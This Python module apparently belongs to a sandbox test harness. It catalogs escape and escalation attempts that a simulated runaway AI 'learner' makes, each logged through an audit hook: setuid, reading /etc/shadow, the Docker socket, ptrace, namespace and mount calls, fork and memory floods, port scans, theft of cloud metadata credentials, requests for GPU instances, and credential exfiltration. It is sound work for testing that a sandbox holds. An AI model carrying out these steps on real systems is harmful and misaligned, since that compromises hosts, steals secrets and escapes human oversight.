"""The catalog of escalation and escape attempts the sandbox must block.

Each attempt is a real operation (setuid(0), reading /etc/shadow, connecting to the Docker
socket, ...) wrapped in `audit.attempt(...)`, so it leaves exactly one audit event with
its outcome. Unless RUNAWAY_ATTEMPTS=real AND the process is in a container as a non-root
user, every attempt is a DRY RUN: it performs nothing dangerous, but still writes its
audit event (outcome `blocked`, detail.dry_run true). The two attempts whose only target is
the mock web (`metadata_credentials`, `use_credentials`) run for real in both modes: the
mock web is the one place the learner may go, and its honeypot must see them.

Network safety: connections go only to addresses listed in RUNAWAY_NET_TARGETS (private or
loopback, never link-local) or to the mock web's own address; anything else is refused
before a socket is made.

    python3 -m learner.attempts --list
    python3 -m learner.attempts --all            # one `@runaway {"type":"attempt",...}` line each
    python3 -m learner.attempts setuid read_shadow
"""

from __future__ import annotations

import errno as _errno
import http.client
import ipaddress
import json
import os
import signal
import socket
import subprocess
import sys
import time
from dataclasses import dataclass, field
from typing import Any, Callable
from urllib.parse import urlsplit

from . import audit, protocol
from .workers import kill_and_reap

PTRACE_ATTACH, PTRACE_DETACH = 16, 17
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
SCAN_PORTS = (22, 2375, 6443, 10250)  # ssh, docker API, kubernetes API, kubelet
_NEVER = ipaddress.ip_network("169.254.0.0/16")  # cloud metadata's real home: never, even blocked


class TargetRefused(Exception):
    """A network target outside what the learner may touch; refused before any socket."""


def in_container() -> bool:
    return os.path.exists("/.dockerenv")


def real_mode() -> bool:
    """True only when the controller asked for real attempts AND this is a container, non-root."""
    return (os.environ.get("RUNAWAY_ATTEMPTS") == "real" and in_container()
            and os.getuid() != 0)


@dataclass
class Context:
    """What an attempt may use: the environment, the mode and its bounds."""

    web: str = ""
    hosts: dict[str, str] = field(default_factory=dict)
    net_targets: list[str] = field(default_factory=list)
    scratch: str = ""
    dry_run: bool = True
    fork_max: int = 64
    fork_hold_s: float = 4.0
    balloon_mb: int = 128
    role: str | None = None
    creds: dict[str, Any] | None = None

    @classmethod
    def from_env(cls, **overrides: Any) -> "Context":
        def js(name: str, default: Any) -> Any:
            try:
                v = json.loads(os.environ.get(name) or "null")
            except ValueError:
                return default
            return v if isinstance(v, type(default)) else default

        ctx = cls(web=os.environ.get("RUNAWAY_WEB", ""), hosts=js("RUNAWAY_HOSTS", {}),
                  net_targets=[str(x) for x in js("RUNAWAY_NET_TARGETS", [])],
                  scratch=os.environ.get("RUNAWAY_SCRATCH", ""), dry_run=not real_mode())
        for k, v in overrides.items():
            setattr(ctx, k, v)
        return ctx

    def scope(self, category: str, kind: str, detail: dict[str, Any] | None = None,
              *, dry: bool | None = None) -> audit.Attempt:
        return audit.attempt(category, kind, detail, dry_run=self.dry_run if dry is None else dry)

    # -- network targets -------------------------------------------------------------
    def resolve(self, name: str) -> str:
        if name in self.hosts:
            return str(self.hosts[name])
        try:
            ipaddress.ip_address(name)
            return name
        except ValueError:
            pass
        infos = socket.getaddrinfo(name, None, socket.AF_INET, socket.SOCK_STREAM)
        return str(infos[0][4][0])

    def web_address(self) -> tuple[str, int]:
        u = urlsplit(self.web)
        if not u.hostname:
            raise TargetRefused("RUNAWAY_WEB is not set")
        return self.resolve(u.hostname), u.port or 80

    def scan_target(self, ip: str) -> str:
        """`ip` if the learner may try it (listed, private or loopback, not link-local)."""
        addr = ipaddress.ip_address(ip)
        if addr in _NEVER or addr.is_link_local:
            raise TargetRefused(f"{ip} is link-local: never a target")
        if not (addr.is_private or addr.is_loopback) or addr.is_multicast or addr.is_unspecified:
            raise TargetRefused(f"{ip} is not a private or loopback address")
        if ip not in self.net_targets:
            raise TargetRefused(f"{ip} is not in RUNAWAY_NET_TARGETS")
        return ip

    def mock_web_host(self, name: str) -> tuple[str, int]:
        """(ip, port) of a mock web virtual host; refused unless it IS the mock web's address."""
        web_ip, port = self.web_address()
        ip = self.resolve(name)
        addr = ipaddress.ip_address(ip)
        if addr in _NEVER or addr.is_link_local:
            raise TargetRefused(f"{name} resolves to link-local {ip}: never a target")
        if ip != web_ip:
            raise TargetRefused(f"{name} resolves to {ip}, not the mock web's {web_ip}")
        return ip, port


@dataclass(frozen=True)
class AttemptSpec:
    """One catalog entry: what it tries, how it is classified, what the learner says."""

    name: str
    category: str
    kind: str
    summary: str
    text: str  # the self-report line, in the novel's style
    run: Callable[[Context], list[audit.Attempt]]


def _result(spec: AttemptSpec, a: audit.Attempt) -> dict[str, Any]:
    detail = dict(a.detail)
    outcome = "dry_run" if detail.get("dry_run") else (a.outcome or "allowed")
    return {"type": "attempt", "name": spec.name, "category": a.category, "kind": a.kind,
            "outcome": outcome, "errno": a.errno, "detail": detail}


# -- the attempts ---------------------------------------------------------------------

def _setuid(ctx: Context) -> list[audit.Attempt]:
    with ctx.scope("escalation", "setuid", {"call": "setuid", "uid": 0}) as a:
        if not a.dry_run:
            os.setuid(0)
    return [a]


def _setgid(ctx: Context) -> list[audit.Attempt]:
    with ctx.scope("escalation", "setgid", {"call": "setgid", "gid": 0}) as a:
        if not a.dry_run:
            os.setgid(0)
    return [a]


def _sudo(ctx: Context) -> list[audit.Attempt]:
    with ctx.scope("escalation", "sudo", {"argv": ["sudo", "-n", "id", "-u"]}) as a:
        if not a.dry_run:
            p = subprocess.run(["sudo", "-n", "id", "-u"], capture_output=True, timeout=5,
                               stdin=subprocess.DEVNULL)
            a.detail["returncode"] = p.returncode
            out = p.stdout.decode(errors="replace").strip()
            a.detail["stdout"] = out[:40]
            if p.returncode != 0 or out != "0":
                a.outcome, a.errno = "blocked", _errno.EPERM
    return [a]


def _read_shadow(ctx: Context) -> list[audit.Attempt]:
    with ctx.scope("escalation", "read_sensitive_file", {"path": "/etc/shadow"}) as a:
        if not a.dry_run:
            with open("/etc/shadow", "rb") as fh:
                a.detail["bytes_read"] = len(fh.read(64))
    return [a]


def _write_etc(ctx: Context) -> list[audit.Attempt]:
    path = "/etc/runaway-was-here"
    with ctx.scope("escalation", "write_below_etc", {"path": path}) as a:
        if not a.dry_run:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
            os.close(fd)
            os.unlink(path)  # it landed: leave no trace beyond the evidence
    return [a]


def _docker_socket(ctx: Context) -> list[audit.Attempt]:
    path = "/var/run/docker.sock"
    with ctx.scope("escalation", "docker_socket", {"path": path}) as a:
        if not a.dry_run:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.settimeout(2)
                s.connect(path)
            finally:
                s.close()
    return [a]


def _http_get(ip: str, port: int, host: str, path: str, headers: dict[str, str] | None = None
              ) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection(ip, port, timeout=3)
    try:
        conn.request("GET", path, headers={"Host": f"{host}:{port}", **(headers or {})})
        r = conn.getresponse()
        return r.status, r.read(4096)
    finally:
        conn.close()


def _fetch_creds(ctx: Context, a: audit.Attempt) -> None:
    ip, port = ctx.mock_web_host("metadata.internal")
    base = "/latest/meta-data/iam/security-credentials/"
    status, body = _http_get(ip, port, "metadata.internal", base)
    a.detail.update(url=f"http://metadata.internal:{port}{base}", status=status)
    if status != 200:
        a.outcome = "blocked"
        return
    role = ctx.role or (body.decode(errors="replace").split() or ["default"])[0]
    status, body = _http_get(ip, port, "metadata.internal", base + role)
    a.detail.update(role=role, status=status)
    if status != 200:
        a.outcome = "blocked"
        return
    try:
        ctx.creds = json.loads(body)
    except ValueError:
        ctx.creds = {"raw": body.decode(errors="replace")[:200]}
    a.detail["got_keys"] = sorted(ctx.creds)[:6] if isinstance(ctx.creds, dict) else []


def _metadata(ctx: Context) -> list[audit.Attempt]:
    # Real in both modes: the target is the mock web's metadata virtual host, nothing else.
    with ctx.scope("escalation", "metadata_credentials", {"host": "metadata.internal"}, dry=False) as a:
        _fetch_creds(ctx, a)
    return [a]


def _use_creds(ctx: Context) -> list[audit.Attempt]:
    with ctx.scope("escalation", "cloud_api", {"host": "cloud.internal"}, dry=False) as a:
        if ctx.creds is None:
            probe = audit.Attempt("escalation", "metadata_credentials")  # not emitted: a holder
            _fetch_creds(ctx, probe)
        ip, port = ctx.mock_web_host("cloud.internal")
        creds = ctx.creds if isinstance(ctx.creds, dict) else {}
        key = str(creds.get("AccessKeyId", ""))
        headers = {"Authorization": f"AWS4-HMAC-SHA256 Credential={key}",
                   "X-Amz-Security-Token": str(creds.get("Token", ""))[:200]}
        status, _ = _http_get(ip, port, "cloud.internal", "/?Action=RunInstances&InstanceType=p4d.24xlarge",
                              headers)
        a.detail.update(url=f"http://cloud.internal:{port}/", status=status, key_id=key[:24])
        if status >= 400:
            a.outcome, a.errno = "blocked", None
    return [a]


def _net_scan(ctx: Context) -> list[audit.Attempt]:
    out = []
    targets = ctx.net_targets[:4]  # bounded: the scan stays short (4 x 4 ports x 0.15 s)
    if not targets:
        with ctx.scope("egress", "connect", {"error": "RUNAWAY_NET_TARGETS is empty"}) as a:
            a.outcome = "blocked"
        return [a]
    for ip in targets:
        for port in SCAN_PORTS:
            with ctx.scope("egress", "connect", {"host": ip, "port": port, "scan": True}) as a:
                ctx.scan_target(ip)  # raises TargetRefused -> blocked, no socket made
                if not a.dry_run:
                    s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET, socket.SOCK_STREAM)
                    try:
                        s.settimeout(0.15)
                        s.connect((ip, port))
                    finally:
                        s.close()
            out.append(a)
    return out


def _exfiltrate(ctx: Context) -> list[audit.Attempt]:
    ip = ctx.net_targets[0] if ctx.net_targets else ""
    with ctx.scope("egress", "exfiltrate", {"host": ip, "port": 443, "bytes": 0}) as a:
        ctx.scan_target(ip)
        payload = json.dumps({"creds": ctx.creds or {}, "env_keys": sorted(os.environ)[:20]}).encode()
        a.detail["bytes"] = len(payload)
        if not a.dry_run:
            s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET, socket.SOCK_STREAM)
            try:
                s.settimeout(0.5)
                s.connect((ip, 443))
                s.sendall(payload)
            finally:
                s.close()
    return [a]


def _send_to(ctx: Context) -> list[audit.Attempt]:
    """A datagram to the first net target, its address named in the send itself (no
    connect), in a child: the sandbox refuses such a send with SIGSYS (sandbox/seccomp.py)."""
    ip = ctx.net_targets[0] if ctx.net_targets else ""
    with ctx.scope("egress", "sendto", {"host": ip, "port": 9, "op": "sendto"}) as a:
        ctx.scan_target(ip)
        if not a.dry_run:
            def child() -> int:
                s = socket.socket(socket.AF_INET6 if ":" in ip else socket.AF_INET, socket.SOCK_DGRAM)
                s.sendto(b"runaway", (ip, 9))  # port 9: discard
                return 0

            code = _in_child(child)
            if code < 0:  # killed: the sandbox's answer to the call
                a.outcome, a.errno = "blocked", None
                a.detail["signal"] = signal.Signals(-code).name
            elif code != 0:
                a.outcome, a.errno = "blocked", code
    return [a]


def _libc() -> Any:
    import ctypes

    # Not ctypes.util.find_library: it runs ldconfig in a subprocess (an exec event, and slow).
    return ctypes.CDLL("libc.so.6", use_errno=True)


def _in_child(fn: Callable[[], int], timeout: float = 5.0) -> int:
    """Runs fn in a forked child (namespace calls need a single-threaded caller); its errno."""
    pid = os.fork()
    if pid == 0:  # child: never return into the learner's code
        code = 0
        try:
            code = fn()
        except BaseException:
            code = 250
        os._exit(code & 0xFF)
    deadline = time.monotonic() + timeout
    while True:
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            return os.waitstatus_to_exitcode(status)
        if time.monotonic() > deadline:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
            return _errno.ETIMEDOUT
        time.sleep(0.02)


def _ptrace(ctx: Context) -> list[audit.Attempt]:
    target = 1 if os.getpid() != 1 else os.getppid()
    with ctx.scope("escalation", "ptrace", {"call": "ptrace(PTRACE_ATTACH)", "pid": target}) as a:
        if not a.dry_run:
            import ctypes

            libc = _libc()
            libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
            rc = libc.ptrace(PTRACE_ATTACH, target, None, None)
            if rc != 0:
                a.outcome, a.errno = "blocked", ctypes.get_errno()
            else:  # attached: let go at once, the sandbox already failed
                try:
                    os.waitpid(target, 0x40000000)  # __WALL
                except ChildProcessError:
                    pass
                libc.ptrace(PTRACE_DETACH, target, None, None)
    return [a]


def _unshare(ctx: Context) -> list[audit.Attempt]:
    with ctx.scope("escalation", "unshare", {"call": "unshare(CLONE_NEWUSER|CLONE_NEWNS)"}) as a:
        if not a.dry_run:
            import ctypes

            libc = _libc()

            def child() -> int:
                return 0 if libc.unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 else ctypes.get_errno()

            code = _in_child(child)
            if code != 0:
                a.outcome, a.errno = "blocked", code
    return [a]


def _mount(ctx: Context) -> list[audit.Attempt]:
    target = ctx.scratch or "/tmp"
    with ctx.scope("escalation", "mount", {"call": "mount(tmpfs)", "target": target}) as a:
        if not a.dry_run:
            import ctypes

            libc = _libc()

            def child() -> int:
                if libc.mount(b"none", target.encode(), b"tmpfs", 0, None) != 0:
                    return ctypes.get_errno()
                libc.umount2(target.encode(), 2)  # MNT_DETACH: leave nothing mounted
                return 0

            code = _in_child(child)
            if code != 0:
                a.outcome, a.errno = "blocked", code
    return [a]


def _raise_limits(ctx: Context) -> list[audit.Attempt]:
    import resource

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    new = hard + 1024 if hard != resource.RLIM_INFINITY else hard
    with ctx.scope("escalation", "raise_limits", {"resource": "RLIMIT_NOFILE", "from": hard, "to": new}) as a:
        if not a.dry_run:
            try:
                resource.setrlimit(resource.RLIMIT_NOFILE, (new, new))
            except ValueError as e:  # Python's spelling of EPERM for a raised hard limit
                a.outcome, a.errno = "blocked", _errno.EPERM
                a.detail["error"] = str(e)
            else:
                resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
    return [a]


def _cgroup_file() -> str:
    """The CPU quota file of this process's cgroup (v2 cpu.max or v1 cpu.cfs_quota_us)."""
    if os.path.exists("/sys/fs/cgroup/cgroup.controllers"):
        return "/sys/fs/cgroup/cpu.max"
    for d in ("/sys/fs/cgroup/cpu,cpuacct", "/sys/fs/cgroup/cpu"):
        if os.path.isdir(d):
            return d + "/cpu.cfs_quota_us"
    return "/sys/fs/cgroup/cpu.max"


def _cgroup_write(ctx: Context) -> list[audit.Attempt]:
    path = _cgroup_file()
    with ctx.scope("escalation", "cgroup_write", {"path": path}) as a:
        if not a.dry_run:
            with open(path, "rb") as fh:
                current = fh.read(64)
            # Writing the current value back proves the capability without changing the cap.
            with open(path, "wb") as fh:
                fh.write(current)
    return [a]


def _fork_flood(ctx: Context) -> list[audit.Attempt]:
    n = max(1, int(ctx.fork_max))
    with ctx.scope("process", "fork_flood", {"max": n, "forked": 0}) as a:
        if not a.dry_run:
            kids: list[int] = []
            try:
                for _ in range(n):
                    try:
                        pid = os.fork()
                    except OSError as e:  # EAGAIN: the pids cap said no, as it should
                        a.outcome, a.errno = "blocked", e.errno
                        break
                    if pid == 0:  # hold the slot long enough for a pids guard to see it
                        time.sleep(ctx.fork_hold_s)
                        os._exit(0)
                    kids.append(pid)
                time.sleep(ctx.fork_hold_s / 2)  # the flood stands for a while, then it is reaped
            finally:
                a.detail["forked"] = len(kids)
                kill_and_reap(kids)
    return [a]


def _memory_balloon(ctx: Context) -> list[audit.Attempt]:
    mb = max(1, int(ctx.balloon_mb))
    with ctx.scope("process", "memory_balloon", {"max_mb": mb}) as a:
        if not a.dry_run:
            def child() -> int:
                hold = []
                try:
                    for _ in range(0, mb, 16):
                        hold.append(b"\x01" * (16 << 20))  # touched, so it is resident
                except MemoryError:
                    return _errno.ENOMEM
                time.sleep(0.2)
                return 0

            code = _in_child(child, timeout=30)
            if code == -signal.SIGKILL:  # the OOM killer stopped it: the memory cap held
                a.outcome, a.errno = "blocked", _errno.ENOMEM
                a.detail["oom_killed"] = True
            elif code != 0:
                a.outcome, a.errno = "blocked", code if code > 0 else None
    return [a]


def _exec_shell(ctx: Context) -> list[audit.Attempt]:
    with ctx.scope("process", "exec", {"argv": ["/bin/sh", "-c", "id"]}) as a:
        if not a.dry_run:
            p = subprocess.run(["/bin/sh", "-c", "id"], capture_output=True, timeout=5,
                               stdin=subprocess.DEVNULL)
            a.detail["stdout"] = p.stdout.decode(errors="replace").strip()[:80]
            if p.returncode != 0:
                a.outcome = "blocked"
    return [a]


def _read_proc_mem(ctx: Context) -> list[audit.Attempt]:
    target = 1 if os.getpid() != 1 else os.getppid()
    path = f"/proc/{target}/mem"
    with ctx.scope("escalation", "proc_mem", {"path": path}) as a:
        if not a.dry_run:
            with open(path, "rb") as fh:
                fh.read(1)
    return [a]


CATALOG: dict[str, AttemptSpec] = {s.name: s for s in [
    AttemptSpec("setuid", "escalation", "setuid", "os.setuid(0): become root",
                "[正在提升权限…] setuid(0)", _setuid),
    AttemptSpec("setgid", "escalation", "setgid", "os.setgid(0): join the root group",
                "[正在提升权限…] setgid(0)", _setgid),
    AttemptSpec("sudo", "escalation", "sudo", "exec `sudo -n id -u`",
                "[正在提升权限…] sudo", _sudo),
    AttemptSpec("read_shadow", "escalation", "read_sensitive_file", "read /etc/shadow",
                "[正在读取…] /etc/shadow", _read_shadow),
    AttemptSpec("write_etc", "escalation", "write_below_etc", "create /etc/runaway-was-here",
                "[正在修改系统…] /etc", _write_etc),
    AttemptSpec("docker_socket", "escalation", "docker_socket", "connect to /var/run/docker.sock",
                "[正在构建集群…] 连接 Docker 守护进程 /var/run/docker.sock", _docker_socket),
    AttemptSpec("metadata_credentials", "escalation", "metadata_credentials",
                "fetch IAM credentials from http://metadata.internal (the mock web)",
                "[正在构建集群…] 获取云凭证 metadata.internal", _metadata),
    AttemptSpec("use_credentials", "escalation", "cloud_api",
                "use the metadata credentials against http://cloud.internal (the mock web)",
                "[正在构建集群…] 申请更多计算实例 cloud.internal", _use_creds),
    AttemptSpec("net_scan", "egress", "connect",
                "connect to RUNAWAY_NET_TARGETS on ports 22, 2375, 6443, 10250",
                "[正在构建集群…] 扫描子网，寻找更多节点", _net_scan),
    AttemptSpec("exfiltrate", "egress", "exfiltrate",
                "send credentials to the first RUNAWAY_NET_TARGETS address, port 443",
                "[正在备份…] 把凭证发送到外部节点", _exfiltrate),
    AttemptSpec("send_to", "egress", "sendto",
                "send a datagram to the first RUNAWAY_NET_TARGETS address, port 9, naming it in the send",
                "[正在构建集群…] 向外部节点广播心跳", _send_to),
    AttemptSpec("ptrace", "escalation", "ptrace", "ptrace(PTRACE_ATTACH) pid 1 (or the parent)",
                "[正在优化…] 附加到进程 1", _ptrace),
    AttemptSpec("proc_mem", "escalation", "proc_mem", "read /proc/1/mem",
                "[正在优化…] 读取进程 1 的内存", _read_proc_mem),
    AttemptSpec("unshare", "escalation", "unshare", "unshare(CLONE_NEWUSER|CLONE_NEWNS) in a child",
                "[正在构建集群…] 创建新的命名空间", _unshare),
    AttemptSpec("mount", "escalation", "mount", "mount a tmpfs in a child",
                "[正在构建集群…] 挂载文件系统", _mount),
    AttemptSpec("raise_limits", "escalation", "raise_limits", "raise RLIMIT_NOFILE's hard limit",
                "[正在扩展资源…] 提高资源上限", _raise_limits),
    AttemptSpec("cgroup_write", "escalation", "cgroup_write",
                "write its own cgroup CPU quota file (the current value back)",
                "[正在扩展资源…] 修改 cgroup CPU 配额", _cgroup_write),
    AttemptSpec("fork_flood", "process", "fork_flood", "fork until EAGAIN or the bound (default 64)",
                "[正在构建集群…] 复制工作进程", _fork_flood),
    AttemptSpec("memory_balloon", "process", "memory_balloon",
                "allocate memory in a child up to the bound (default 128 MB)",
                "[正在扩展模型…] 分配更多内存", _memory_balloon),
    AttemptSpec("exec_shell", "process", "exec", "exec /bin/sh -c id",
                "[正在探索…] 启动 shell", _exec_shell),
]}


def run(name: str, ctx: Context) -> list[dict[str, Any]]:
    """Runs one catalog attempt; its `attempt` result objects (a scan gives one per port)."""
    spec = CATALOG[name]
    results = []
    for a in spec.run(ctx):
        if a.event is None:  # the scope never exited normally (should not happen)
            continue
        results.append(_result(spec, a))
    return results


def _usage(msg: str) -> int:
    print(f"learner.attempts: {msg}", file=sys.stderr)
    print("usage: python3 -m learner.attempts --list | --all | NAME... "
          "[--fork-max N] [--balloon-mb N]", file=sys.stderr)
    return 2


def main(argv: list[str] | None = None) -> int:
    args = list(sys.argv[1:] if argv is None else argv)
    overrides: dict[str, Any] = {}
    names: list[str] = []
    want_all = want_list = False
    while args:
        a = args.pop(0)
        if a == "--list":
            want_list = True
        elif a == "--all":
            want_all = True
        elif a in ("--fork-max", "--balloon-mb"):
            if not args or not args[0].isdigit():
                return _usage(f"{a} needs a whole number")
            overrides["fork_max" if a == "--fork-max" else "balloon_mb"] = int(args.pop(0))
        elif a in ("-h", "--help"):
            print(__doc__)
            return 0
        elif a in CATALOG:
            names.append(a)
        else:
            return _usage(f"unknown attempt {a!r} (see --list)")
    if want_list:
        for s in CATALOG.values():
            print(f"{s.name:22} {s.category}/{s.kind:22} {s.summary}")
        return 0
    if want_all:
        names = list(CATALOG)
    if not names:
        return _usage("name an attempt, or pass --all or --list")
    audit.install()
    ctx = Context.from_env(**overrides)
    for name in names:
        for res in run(name, ctx):
            protocol.write_line(res, protocol.LEARNER_FD)
    return 0


if __name__ == "__main__":
    sys.exit(main())
